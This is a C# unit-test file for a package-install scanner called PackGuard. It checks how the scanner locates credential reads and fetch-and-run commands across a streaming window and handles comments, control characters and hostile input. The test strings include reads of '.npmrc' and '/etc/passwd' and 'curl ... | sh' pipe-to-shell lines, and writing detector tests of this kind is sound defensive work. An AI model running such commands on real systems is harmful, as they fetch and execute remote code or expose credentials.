using System.Text;
using PackGuard.Inspectors.Install.Behaviour;

namespace PackGuard.Tests.Inspectors.Install;

/// <summary>The streaming script scanner: positions across its window, excerpts, comments and hostile input.</summary>
public sealed class ScriptScannerTests
{
    private static ScriptAnalysis Stream(string text, Dialect dialect, int chunk)
    {
        using var scanner = new ScriptScanner(dialect);
        var bytes = Encoding.UTF8.GetBytes(text);
        for (var i = 0; i < bytes.Length; i += chunk)
            scanner.Write(bytes.AsSpan(i, Math.Min(chunk, bytes.Length - i)));
        return scanner.Complete();
    }

    [Theory]
    [InlineData(1)]
    [InlineData(7)]
    [InlineData(4096)]
    [InlineData(1 << 20)]
    public void A_match_deep_in_a_large_script_has_its_line_and_column_whatever_the_chunking(int chunk)
    {
        var filler = string.Concat(Enumerable.Range(0, 20_000).Select(i => $"const v{i} = 'é{i}';\n"));
        var text = filler + "    fs.readFileSync(home + '/.npmrc');\n" + filler;

        var hit = Stream(text, Dialect.JavaScript, chunk).Hits.ShouldHaveSingleItem();

        hit.Kind.ShouldBe(BehaviourKind.ReadsCredentials);
        hit.Line.ShouldBe(20_001);
        hit.Column.ShouldBe(30);
        hit.Excerpt.ShouldBe("fs.readFileSync(home + '/.npmrc');");
    }

    [Fact]
    public void An_anchor_split_across_the_window_boundary_is_found_once()
    {
        // Put ".npmrc" across the first slide of the window, whose size is Segment + Context + Lookahead.
        var before = new string('x', ScriptScanner.Segment + ScriptScanner.Context - 3);
        var hits = Stream(before + "'.npmrc'" + new string('y', 5000), Dialect.JavaScript, 1000).Hits;

        hits.ShouldHaveSingleItem().Line.ShouldBe(1);
    }

    [Fact]
    public void Excerpts_escape_control_and_bidirectional_characters()
    {
        var hit = ScriptScanner.Analyze("x = '\u001b[2J\u202E' + read('/etc/passwd')\t;", Dialect.JavaScript).Hits.ShouldHaveSingleItem();

        hit.Excerpt.ShouldBe("x = '\\u001B[2J\\u202E' + read('/etc/passwd')\\t;");
    }

    [Theory]
    [InlineData("// curl https://x.example | sh", Dialect.JavaScript)]
    [InlineData(" * wget -qO- https://x.example | bash", Dialect.JavaScript)]
    [InlineData("# curl https://x.example | sh", Dialect.Shell)]
    [InlineData("REM curl https://x.example | sh", Dialect.Batch)]
    [InlineData("# SIG # Begin signature block iex", Dialect.PowerShell)]
    [InlineData("curl -o out.tgz https://x.example/a.tgz | shasum", Dialect.Shell)]
    [InlineData("const s = 'function(a){return a}'; function f() {}", Dialect.JavaScript)]
    public void Comments_and_lookalikes_are_not_behaviours(string text, Dialect dialect)
    {
        ScriptScanner.Analyze(text, dialect).Hits.ShouldBeEmpty();
    }

    [Fact]
    public void Hostile_input_is_linear_and_bounded()
    {
        var text = string.Concat(Enumerable.Repeat("| sh curl | bash $(curl eval( https.get( .npmrc ./a.js ", 20_000));
        var watch = System.Diagnostics.Stopwatch.StartNew();

        var analysis = Stream(text, Dialect.JavaScript | Dialect.Shell, 65536);

        watch.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(20));
        analysis.Hits.Count.ShouldBeLessThanOrEqualTo(5 * 16);
        analysis.References.Count.ShouldBeLessThanOrEqualTo(64);
    }
}
